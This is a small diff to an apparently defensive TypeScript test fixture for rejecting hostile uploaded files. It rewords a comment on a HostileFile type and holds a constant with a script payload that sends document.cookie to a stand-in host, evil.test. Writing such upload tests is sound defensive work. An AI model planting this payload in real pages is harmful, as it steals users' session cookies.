@@ -1,6 +1,6 @@
 import { bmp, hollowPng, icon, photoWithExif, picture } from './pictures.ts';
 
-/** Files nobody sends by accident. `refused` names the answer; `harmless` what must not be left of them. */
+/** Files that nobody sends by accident. `refused`: the expected answer. `harmless`: what must not remain of them. */
 export type HostileFile = { name: string; bytes: Buffer; fileName?: string; refused?: { status: number; message?: string }; harmless?: RegExp };
 
 const SCRIPT = '<script>fetch("https://evil.test/"+document.cookie)</script>';
